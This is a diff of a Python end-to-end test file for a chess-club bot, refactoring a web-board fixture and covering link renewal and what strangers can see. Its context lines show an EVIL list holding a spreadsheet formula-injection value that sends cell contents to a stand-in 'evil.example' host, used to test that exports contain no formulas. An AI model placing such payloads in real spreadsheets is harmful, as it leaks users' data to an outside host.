@@ -7,17 +7,14 @@ from __future__ import annotations
 import csv
 import io
 import sqlite3
-from collections.abc import AsyncIterator
-from pathlib import Path
 
 import pytest
 
-from tests.clock import ManualClock
 from tests.e2e.drivers import swiss_club
 from tests.e2e.drivers.swiss_club import GROUP, Club
 from tests.e2e.drivers.texts import fixed, ru
 from tests.e2e.emulator import BotApiEmulator
-from tests.e2e.harness import RunningBot, free_port
+from tests.e2e.harness import RunningBot
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
@@ -77,21 +74,8 @@ async def test_the_groups_export_keeps_reasons_out_and_no_cell_is_a_formula(
     assert penalty[-1] == REASON
 
 
-@pytest.fixture
-async def served(
-    emu: BotApiEmulator, clock: ManualClock, tmp_path: Path
-) -> AsyncIterator[RunningBot]:
-    """The bot with its web board on a port (its links are answered)."""
-    running = RunningBot(
-        emu, tmp_path / "club.db", clock, organizer_ids="999", web_port=free_port()
-    )
-    await running.start()
-    yield running
-    await running.stop()
-
-
 async def test_a_stranger_learns_nothing_of_a_players_tournaments_or_boards(
-    emu: BotApiEmulator, served: RunningBot
+    emu: BotApiEmulator, web_bot: RunningBot
 ) -> None:
     club = Club(emu, players=4)
     await club.register_all(await club.create(rounds="3", top="Без ТОПа"))
@@ -114,7 +98,7 @@ async def test_a_stranger_learns_nothing_of_a_players_tournaments_or_boards(
 
 
 async def test_an_organiser_renews_a_link_and_the_old_one_opens_nothing(
-    emu: BotApiEmulator, served: RunningBot
+    emu: BotApiEmulator, web_bot: RunningBot
 ) -> None:
     club = Club(emu, players=4)
     await club.register_all(await club.create(rounds="3", top="Без ТОПа"))
@@ -123,8 +107,8 @@ async def test_an_organiser_renews_a_link_and_the_old_one_opens_nothing(
     ann = club.users["Ann"]
     await ann.send(GROUP, "/board new")  # a player: refused, the link stands
     await emu.wait_bot_message(GROUP, contains=fixed("common.organisers_only"))
-    assert served.app is not None
-    links = served.app.infra.links
+    assert web_bot.app is not None
+    links = web_bot.app.infra.links
     assert links.tournament_of(old) == 1
     mark = emu.mark()
     await club.org.send(GROUP, "/board new")
